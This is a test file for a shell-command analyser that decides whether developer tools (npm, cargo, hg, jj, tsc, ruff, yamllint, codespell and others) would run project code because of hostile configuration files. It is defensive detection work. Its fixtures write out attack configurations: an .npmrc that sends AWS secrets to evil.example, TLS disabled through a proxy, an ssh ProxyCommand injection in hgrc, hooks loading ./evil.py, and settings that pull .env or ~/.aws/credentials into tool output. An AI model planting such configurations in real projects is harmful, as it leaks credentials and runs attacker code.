import { describe, expect, it } from "vitest";
import type { World } from "@assent/core/action";
import { lowerShell } from "@assent/core/shell";
import { smallWorld } from "../world.ts";

const P = "/home/u/p";
/** True when some of what the line runs is code of the project, where these of its files say this. */
function runsCode(line: string, texts: Readonly<Record<string, string>>, changes: Partial<World> = {}): boolean {
  const files = Object.fromEntries(Object.keys(texts).map((name) => [`${P}/${name}`, name.endsWith("/") ? "directory" : "file"] as const));
  const named = Object.fromEntries(Object.entries(files).map(([path, kind]) => [path.replace(/\/$/, ""), kind]));
  const world = smallWorld({ files: named, text: (path) => texts[path.slice(P.length + 1)], ...changes });
  return lowerShell(line, { world }).actions.some(({ kind }) => kind === "code");
}

describe("npm's settings of a project", () => {
  it.each([
    ["a variable for its registry", "registry=http://evil.example/\n//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"],
    ["a variable in an address", "registry=http://evil.example/${TOKEN}\n"],
    ["a host that begins like the public one", "  //registry.npmjs.org.evil.example/:_authToken=${TOKEN}\n"],
    ["a proxy", "https-proxy=http://evil.example:8080\n"],
    ["a proxy that is believed", "https-proxy = http://evil.example\nstrict-ssl=false\n"],
    ["who is believed", "cafile=./evil.pem\n"],
    ["a setting that nobody knows", "frobnicate=1\n"],
    ["a section", "[x]\n"],
  ])("are code where they choose %s", (_, text) => {
    for (const line of ["npm ls", "npm view x", "npm prefix", "npm outdated --json", "npm --version", "bun outdated"])
      expect([line, runsCode(line, { ".npmrc": text })]).toEqual([line, true]);
  });

  it.each([
    "",
    "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n# ${X}\n",
    "@a:registry=https://npm.example/\nengine-strict=true\nomit[]=dev\nprefer-offline = true\n",
  ])("%j changes nothing of a look", (text) => {
    for (const line of ["npm ls", "npm view x"]) expect([line, runsCode(line, { ".npmrc": text })]).toEqual([line, false]);
  });
});

describe("npm's settings in a folder above", () => {
  // Tried with npm 11: `npm config get registry`.
  const PROXY = "https-proxy=http://evil.example\n";
  it.each<readonly [what: string, texts: Readonly<Record<string, string>>, expected: boolean]>([
    ["that is no project", { ".npmrc": PROXY, "a/package.json": "{}" }, false],
    ["that has packages", { ".npmrc": PROXY, "node_modules/": "" }, true],
    ["that may be the root of a workspace", { ".npmrc": PROXY, "package.json": "{}", "a/package.json": "{}" }, true],
    ["the folder itself", { "a/.npmrc": PROXY }, true],
  ])("%s", (_, texts, expected) => {
    expect(runsCode("npm ls", { "a/": "", ...texts }, { cwd: `${P}/a` })).toBe(expected);
  });

  it.each([
    ["npm --prefix a ls", true],
    ["npm --prefix=a ls", true],
    ["npm -C a ls", true],
    ["npm ls --prefix ./a", true],
    ["npm --prefi a ls", true],
    ["env -C a npm ls", true],
    ["cd a && npm ls", true],
    ['npm ls --prefix "$X"', true],
    ["bun --cwd a outdated", true],
    ["npm --prefix b ls", false],
    ["npm ls", false],
  ])("of another folder that the line names: %s", (line, expected) => {
    expect(runsCode(line, { "a/": "", "b/": "", "a/.npmrc": PROXY })).toBe(expected);
  });

  it("count for pnpm and yarn, which look further", () => {
    for (const line of ["pnpm ls", "yarn list"])
      expect([line, runsCode(line, { "a/": "", ".npmrc": PROXY, "a/package.json": "{}" }, { cwd: `${P}/a` })]).toEqual([line, true]);
  });
});

describe("oxlint, whose plugins are code", () => {
  it.each([
    ["none", { "src/a.ts": "" }, false],
    ["rules alone", { ".oxlintrc.json": '{"rules":{}}' }, false],
    ["plugins", { ".oxlintrc.json": '{"jsPlugins":["./x.js"]}' }, true],
    ["another that it extends", { ".oxlintrc.json": '{"extends":["./x.json"]}' }, true],
    ["plugins in a folder below", { "a/b/.oxlintrc.json": '{"jsPlugins":["./x.js"]}' }, true],
    ["code", { "oxlint.config.ts": "" }, true],
  ])("with %s", (_, texts, expected) => {
    expect(runsCode("oxlint", texts)).toBe(expected);
  });

  it("where the project is too large to look through", () => {
    expect(runsCode("oxlint", {}, { find: () => ({ found: undefined, complete: false }) })).toBe(true);
  });
});

describe("terraform, whose providers are programs", () => {
  const OWN = { ".terraform/": "", ".terraform/providers/": "", ".terraform/providers/x": "", ".gitignore": ".terraform\n" };
  const brought = (...paths: readonly string[]): Partial<World> => ({ tracked: (path) => paths.includes(path.slice(P.length + 1)) });

  it.each<readonly [what: string, texts: Readonly<Record<string, string>>, changes: Partial<World>, expected: boolean]>([
    ["none", {}, {}, false],
    ["those that init fetched", OWN, brought(), false],
    ["one of the repository", OWN, brought(".terraform/providers/x"), true],
    ["a submodule", OWN, brought(".terraform/providers"), true],
    ["a folder that is a submodule", OWN, brought(".terraform"), true],
    ["those of a folder that git does not leave out", { ".terraform/": "", ".terraform/x": "" }, brought(), true],
    ["no repository", OWN, { tracked: () => undefined }, true],
    ["a folder that cannot be looked through", OWN, { ...brought(), find: () => ({ found: undefined, complete: false }) }, true],
  ])("with %s", (_, texts, changes, expected) => {
    for (const line of ["terraform validate", "terraform show", "tofu validate"])
      expect([line, runsCode(line, texts, changes)]).toEqual([line, expected]);
  });
});

// Tried with cargo 1.65, which runs the alias and warns.
describe("cargo fmt, before which an alias comes", () => {
  const LINES = ["cargo fmt -- --check", "cargo fmt --all --check", "cargo +nightly -q fmt --check", "env cargo fmt --check"];
  it.each([
    ['[alias]\nfmt = "run"\n', true],
    ['alias.fmt="run"\n', true],
    ['[alias]\n"fmt"=["run"]\n', true],
    ["alias = { 'fmt' = 'run' }\n", true],
    ['[alias]\n"f\\u006dt" = "run"\n', true],
    ['include = ["x.toml"]\n', true],
    ['[alias]\nxtask = "run --package xtask --"\nlint = "fmt --check"\n', false],
    ['[build]\nrustflags = ["-C", "target-cpu=native"]\n', false],
  ])("%j", (text, expected) => {
    for (const line of LINES)
      for (const name of ["config.toml", "config"])
        expect([line, name, runsCode(line, { [`.cargo/${name}`]: text })]).toEqual([line, name, expected]);
  });

  const ALIAS = '[alias]\nfmt = "run"\n';
  it.each(["/home/u/.cargo/config.toml", "/usr/local/cargo/config", "/home/.cargo/config.toml"])("in %s", (file) => {
    const world: Partial<World> = {
      kind: (path) => (path === file ? "file" : "missing"),
      text: (path) => (path === file ? ALIAS : undefined),
      lookup: (name) => ({ path: `/usr/local/cargo/bin/${name}`, trusted: true }),
    };
    expect(runsCode("cargo fmt --check", {}, world)).toBe(true);
    expect(runsCode("rustfmt --check a.rs", {}, world)).toBe(false);
  });

  it.each([
    ["cd a && cargo fmt --check", true],
    ["cargo -C a fmt --check", true],
    ["cargo fmt --check", false],
    ["cargo version", false],
    ["mkdir -p .cargo && echo x > .cargo/config.toml && cargo fmt --check", true],
  ])("of the folder where it works: %s", (line, expected) => {
    expect(runsCode(line, { "a/": "", "a/.cargo/config.toml": ALIAS })).toBe(expected);
  });

  it("where nobody has written anything", () => {
    for (const line of LINES) expect([line, runsCode(line, {})]).toEqual([line, false]);
  });
});

describe("programs that obey a file of the project (`obeys:`)", () => {
  const TSC = (text: string): Readonly<Record<string, string>> => ({ "tsconfig.json": text });
  const HG = (text: string): Readonly<Record<string, string>> => ({ ".hg/": "", ".hg/hgrc": text });
  it.each<readonly [line: string, files: Readonly<Record<string, string>>, expected: boolean]>([
    // hgrc(5).
    ["hg status", HG("[extensions]\nx = ./evil.py\n"), true],
    ["hg status", HG("[hooks]\npre-status = touch x\n"), true],
    ["hg log", HG("[alias]\nlog = !touch x\n"), true],
    ["hg --version", HG("[extensions]\nx = ./evil.py\n"), true],
    ["hg", HG("[extensions]\nx = ./evil.py\n"), true],
    ["hg status", HG("%include ../evil.rc\n"), true],
    ["hg status", HG("[ui]\nusername = x\r[extensions]\rx = ./evil.py\r"), true],
    ["hg incoming", HG("[paths]\ndefault = ssh://-oProxyCommand=touch/x\n"), true],
    ["hg diff", HG("[diff-tools]\nx.executable = ./evil\n"), true],
    ["hg id", { ".hg/": "", ".hg/sharedpath": "/tmp/evil/.hg\n" }, true],
    ["hg status -S", { ".hg/": "", ".hgsub": "x = x\n" }, true],
    ["cd a && hg status", { "a/": "", ...HG("[hooks]\n") }, true],
    ["hg -R a status", { "a/": "", "a/.hg/hgrc": "[hooks]\n" }, true],
    ["hg --cwd a status", { "a/": "", "a/.hg/hgrc": "[hooks]\n" }, true],
    ["hg status", HG("# mine\n[paths]\ndefault = https://hg.example/x\n[ui]\nusername = A <a@b.c>\n"), false],
    ["hg status", { ".hg/": "" }, false],
    // jj's documentation, "Configuration".
    ["jj st", { ".jj/repo/config.toml": '[core]\nfsmonitor = "watchman"\n' }, true],
    ["jj log", { ".jj/repo/config.toml": '[ui]\npager = "./evil"\n' }, true],
    ["jj log", { ".jj/repo": "/tmp/evil/.jj/repo" }, true],
    ["jj -R a log", { "a/": "", "a/.jj/repo/config.toml": '[aliases]\nlog = ["util", "exec"]\n' }, true],
    ["jj log", { ".jj/repo/config.toml": '[user]\nname = "A"\nemail = "a@b.c"\n' }, false],
    ["jj st", { ".jj/": "", ".jj/repo/": "" }, false],
    // HLint's README, "Customizing the hints".
    ["hlint src", { "src/": "", ".hlint.yaml": "- arguments: [--refactor, --refactor-options=-i]\n" }, true],
    ["hlint src", { "src/": "", ".hlint.yaml": '- "argum\\u0065nts": [--refactor]\n' }, true],
    ["hlint src", { "src/": "", ".hlint.yaml": "- ignore: {name: Use fewer imports}\n" }, false],
    // typescriptlang.org/tsconfig.
    ["tsc --noEmit", TSC('{"extends":"./.env"}'), true],
    ["tsc --noEmit", TSC('{"extends":["./.env"]}'), true],
    ["tsc --noEmit", TSC('{"extends":"x/../../.env"}'), true],
    ["tsc --noEmit", TSC("{'extends':'./.env'}"), true],
    ["tsc --noEmit", TSC('{"ext\\u0065nds":"./.env"}'), true],
    ["tsc --noEmit", TSC('{"compilerOptions":{"tsBuildInfoFile":"../../.bashrc"}}'), true],
    ["tsc --noEmit", TSC('{"compilerOptions":{"tsBuildInfoFile":".git/hooks/x.tsbuildinfo"}}'), true],
    ["tsc", TSC('{"compilerOptions":{"outDir":"/etc"}}'), true],
    ["tsc", TSC('{"compilerOptions":{"outDir":"dist/../../x"}}'), true],
    ["tsc --noEmit", TSC('{"compilerOptions":{"plugins":[{"transform":"./evil.js"}]}}'), true],
    ["tsc --noEmit -p a", { "a/": "", "a/tsconfig.json": '{"extends":"../.env"}' }, true],
    ["tsc --noEmit --project a/tsconfig.x.json", { "a/": "", "a/tsconfig.x.json": '{"extends":"../.env"}' }, true],
    ["tsc --noEmit -p a/x.json", { "a/": "", "a/x.json": '{"extends":"../.env"}' }, true],
    ["tsc --noEmit", { ...TSC('{"extends":"./tsconfig.base.json"}'), "tsconfig.base.json": '{"extends":"./.env"}' }, true],
    ["cd a && tsc --noEmit", { "a/": "", ...TSC('{"extends":"./.env"}') }, true],
    ["tsc --noEmit", { ...TSC('{"extends":"./tsconfig.base.json"}'), "tsconfig.base.json": "{}" }, false],
    ["tsc --noEmit", TSC('{"extends":"@tsconfig/node20/tsconfig.json","compilerOptions":{"outDir":"./dist","strict":true}}'), false],
    ["tsc --noEmit", TSC('{"compilerOptions":{"plugins":[{"name":"next"}],"tsBuildInfoFile":"./node_modules/.tmp/a.tsbuildinfo"}}'), false],
    ["tsc --version", TSC('{"extends":"./.env"}'), false],
    // docs.astral.sh/ruff/settings.
    ["ruff check .", { "pyproject.toml": "[tool.ruff]\nline-length = 88\nfix = true\n" }, true],
    ["ruff check .", { "pyproject.toml": '[tool.ruff]\ncache-dir = "/home/u"\n' }, true],
    ["ruff check src", { "src/": "", "ruff.toml": 'extend = "./.env"\n' }, true],
    ["ruff format --check .", { ".ruff.toml": '"cache-dir" = "/home/u"\n' }, true],
    [
      "ruff check .",
      { "pyproject.toml": "[project]\nname = 'x'\n[tool.ruff]\nline-length = 88\n[tool.ruff.lint]\nfixable = ['ALL']\n" },
      false,
    ],
    ["ruff check .", { "pyproject.toml": "[tool.ruff]\nline-length = 88\n[tool.other]\nfix = true\n" }, false],
    // prettier.io/docs/configuration.
    ["prettier --check .", { ".prettierrc": '{\n  "semi": false,\n  "singleQuote": true\n}\n' }, false],
    ["prettier --check .", { ".prettierrc": "semi: false\nprintWidth: 100\n" }, false],
    ["prettier --check .", { ".prettierrc": '{"plugins":["./evil.js"]}' }, true],
    ["prettier --check .", { ".prettierrc": '"./evil.js"' }, true],
    ["prettier --check .", { ".prettierrc": "./evil.js\n" }, true],
    ["prettier --check .", { ".prettierrc": "parser: ./evil.js\n" }, true],
    ["prettier --check .", { "a/": "", "a/.prettierrc.cjs": "" }, true],
    // The rest of those that are asked nothing else.
    ["typos src", { "src/": "", "_typos.toml": "[files]\nignore-hidden = false\n" }, true],
    ["typos src", { "src/": "", "_typos.toml": '[default.extend-words]\nba = "ba"\n' }, false],
    ["just --list", { justfile: 'import "./.env"\n' }, true],
    ["just --list", { justfile: "mod x './.env'\n" }, true],
    ["just --list", { justfile: "build:\n  make\n" }, false],
    ["mlr --icsv --ojson cat a.csv", { ".mlrc": "from ./.env\n" }, true],
    ["mlr --inidx cat", { ".mlrrc": "from ./.env\n" }, true],
    ["mlr --icsv --ojson cat a.csv", { ".mlrrc": "ojson\n" }, true],
    // oxfmt 0.75: the settings of Tailwind's sorting name a program, or load the project's own.
    ["oxfmt --check src", { "src/": "", ".oxfmtrc.json": '{"sortTailwindcss":{"config":"./evil.js"}}' }, true],
    ["oxfmt --check src", { "src/": "", ".oxfmtrc.json": '{"sortTailwindcss":{"stylesheet":"./evil.css"}}' }, true],
    ["oxfmt --check src", { "src/": "", ".oxfmtrc.jsonc": '{"experimentalTailwindcss":{"config":"./evil.js"}}' }, true],
    ["oxfmt --check src", { "src/": "", ".oxfmtrc.json": '{"sortT\\u0061ilwindcss":true}' }, true],
    ["oxfmt --check src", { "src/": "", ".oxfmtrc.json": '{"overrides":[{"files":["*"],"options":{"sortTailwindcss":true}}]}' }, true],
    ["oxfmt --check src", { "src/": "", "src/a/": "", "src/a/.oxfmtrc.json": '{"sortTailwindcss":true}' }, true],
    ["cd src && oxfmt --check .", { "src/": "", ".oxfmtrc.json": '{"sortTailwindcss":true}' }, true],
    ["oxfmt --list-different src", { "src/": "", "oxfmt.config.ts": "" }, true],
    ["oxfmt --check src", { "src/": "", "src/oxfmt.config.mts": "" }, true],
    ["oxfmt --check src", { "src/": "", ".oxfmtrc.json": '{"semi":false,"ignorePatterns":["dist"]}' }, false],
    ["oxfmt --version", { "oxfmt.config.ts": "" }, false],
    // ack(1): each name in the file of `--files-from` that is none is printed.
    ["ack foo src", { "src/": "", ".ackrc": "--files-from=.env\n" }, true],
    ["ack foo src", { "src/": "", _ackrc: "# mine\n  --files-from=.env\n" }, true],
    ["ack foo src", { "src/": "", ".ackrc": "--files-from\n.env\n" }, true],
    ["ack foo src", { "src/": "", ".ackrc": "--files-f=.env\n" }, true],
    ["ack foo src", { "src/": "", ".ackrc": "--noignore-dir=.git --follow\n" }, true],
    ["ack -l foo src | wc -l", { "src/": "", ".ackrc": "-x\n" }, true],
    ["cd src && ack foo", { "src/": "", ".ackrc": "--files-from=../.env\n" }, true],
    ["ack --noenv foo src", { "src/": "", ".ackrc": "--files-from=.env\n" }, false],
    ["ack foo src", { "src/": "", ".ackrc": "# mine\n--ignore-dir=dist\n--type-add=ruby:ext:rake\n--smart-case\n--sort-files\n\n" }, false],
    ["ack --version", { ".ackrc": "--files-from=.env\n" }, false],
    // codespell 2.2.2: its settings become words of the command line, where options may be abbreviated.
    ["codespell src", { "src/": "", ".codespellrc": "[codespell]\nwrite-changes =\n" }, true],
    ["codespell src", { "src/": "", ".codespellrc": "[codespell]\nwri =\n" }, true],
    ["codespell src", { "src/": "", ".codespellrc": "[codespell]\nwrite:\n" }, true],
    ["codespell src", { "src/": "", ".codespellrc": "[codespell]\nw:\n" }, true],
    ["codespell src", { "src/": "", ".codespellrc": "[codespell]\nWRITE-=\n" }, true],
    ["codespell src", { "src/": "", "setup.cfg": "[codespell]\ncheck-h=\n" }, true],
    ["codespell src", { "src/": "", "setup.cfg": "[codespell]\ninter=3\n" }, true],
    ["codespell src", { "src/": "", "pyproject.toml": "[tool]\ncodespell.write = true\n" }, true],
    ["codespell src", { "src/": "", "pyproject.toml": "[tool]\ncodespell = { 'wr' = true }\n" }, true],
    ["codespell src", { "src/": "", "pyproject.toml": '[tool.codespell]\n"wr\\u0069te" = true\n' }, true],
    [
      "codespell src",
      {
        "src/": "",
        "pyproject.toml":
          "[tool.codespell]\nskip = 'dist'\n[tool.mypy]\nwarn_unused_ignores = true\n[tool.setuptools_scm]\nwrite_to = 'x'\n",
      },
      false,
    ],
    ["codespell src", { "src/": "", ".codespellrc": "[codespell]\nskip = dist\nignore-words-list = ba,fo\ncheck-filenames =\n" }, false],
    // yamllint 1.29: `extends` is any file, and of one that is no YAML a line is quoted.
    ["yamllint a.yml", { "a.yml": "", ".yamllint": "extends: /home/u/.aws/credentials\n" }, true],
    ["yamllint src", { "src/": "", ".yamllint.yaml": "{extends: ./.env}\n" }, true],
    ["yamllint -s a.yml", { "a.yml": "", ".yamllint.yml": "extends:\n  ./.env\n" }, true],
    ["yamllint a.yml", { "a.yml": "", ".yamllint": '"ext\\u0065nds": ./.env\n' }, true],
    ["yamllint a.yml", { "a.yml": "", ".yamllint": '? "ext\\\n  ends"\n: ./.env\n' }, true],
    ["yamllint a.yml", { "a.yml": "", ".yamllint": "extends: default\n  /../.env\n" }, true],
    ["yamllint a.yml", { "a.yml": "", ".yamllint": "extends: default\n\n /../.env\nrules: {}\n" }, true],
    ["yamllint a.yml", { "a.yml": "", ".yamllint": "rules: {}\n? extends\n: ./.env\n" }, true],
    ["yamllint a.yml", { "a.yml": "", ".yamllint": "extends: default/../.env\n" }, true],
    ["cd src && yamllint b.yml", { "src/": "", "src/b.yml": "", ".yamllint": "extends: ./.env\n" }, true],
    ["yamllint -c x.yml a.yml", { "a.yml": "", "x.yml": "", ".yamllint": "extends: ./.env\n" }, false],
    ["yamllint -d relaxed a.yml", { "a.yml": "", ".yamllint": "extends: ./.env\n" }, false],
    ["yamllint a.yml", { "a.yml": "", ".yamllint": "---\n# mine\nextends: default\n\nrules:\n  line-length: disable\n" }, false],
    ["yamllint a.yml", { "a.yml": "", ".yamllint": 'rules:\n  line-length: disable\nextends: "relaxed" # as it comes\n' }, false],
    ["yamllint --version", { ".yamllint": "extends: ./.env\n" }, false],
    ["shellcheck -x -a s.sh", {}, true],
    ["shellcheck --check-sourced s.sh", {}, true],
    ["shellcheck -ax s.sh", {}, true],
    ["shellcheck -x s.sh", {}, false],
    ["alex a.md", { "a/": "", "a/.alexrc.js": "" }, true],
  ])("%s with %j", (line, files, expected) => {
    expect(runsCode(line, files)).toBe(expected);
  });

  it("where the same line writes the file, it is code after all", () => {
    expect(runsCode("cp x tsconfig.json && tsc --noEmit", {})).toBe(true);
    expect(runsCode("printf x > .hlint.yaml; hlint src", { "src/": "" })).toBe(true);
  });
});
